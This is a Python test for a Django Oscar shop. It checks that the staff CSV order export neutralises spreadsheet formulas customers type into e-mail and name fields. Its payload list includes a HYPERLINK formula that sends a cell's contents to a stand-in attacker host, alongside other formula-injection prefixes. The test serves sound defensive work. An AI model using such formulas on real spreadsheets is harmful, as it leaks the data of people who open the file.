"""The staff order export (Oscar's "Download selected orders") is safe to open in
a spreadsheet: what customers typed never runs as a formula."""

import csv
import io

import pytest
from django.urls import reverse
from oscar.core.loading import get_class, get_model

from tests.factories import (
    StaffUserFactory,
    VendorFactory,
    create_artisan_product,
    place_order,
)
from tests.factories.accounts import sign_in_verified

Country = get_model("address", "Country")
Order = get_model("order", "Order")
OrderListView = get_class("dashboard.orders.views", "OrderListView")
ShippingAddress = get_model("order", "ShippingAddress")

pytestmark = pytest.mark.django_db

TYPED = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Voir")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\tcalc",
    "\rcalc",
)


def test_the_order_export_neutralises_formulas_customers_typed(client):
    # given one order per formula, typed as the guest's e-mail address and as
    # the name to deliver to
    product = create_artisan_product(VendorFactory(), "Savon")
    france = Country.objects.create(
        iso_3166_1_a2="FR", name="France", printable_name="France"
    )
    orders = {}
    for typed in TYPED:
        order = place_order((product, 1), shipping_address=None)
        address = ShippingAddress.objects.create(
            first_name=typed, line1="1 rue de la Paix", country=france
        )
        Order.objects.filter(pk=order.pk).update(
            user=None, guest_email=typed, shipping_address=address
        )
        orders[str(order.number)] = typed
    sign_in_verified(
        client, StaffUserFactory(email="chambre@example.fr", is_superuser=True)
    )

    # when staff download them
    response = client.post(
        reverse("dashboard:order-list"),
        {
            "action": "download_selected_orders",
            "selected_order": [o.pk for o in Order.objects.all()],
        },
    )

    # then every typed value is there, kept from running as a formula
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    header, *rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
    columns = list(OrderListView.CSV_COLUMNS)
    assert len(header) == len(columns)
    number, customer, deliver_to = (
        columns.index(key) for key in ("number", "customer", "shipping_address_name")
    )
    assert {row[number] for row in rows} == set(orders)
    for row in rows:
        typed = orders[row[number]]
        assert row[customer] == "'" + typed
        assert row[deliver_to] == "'" + typed
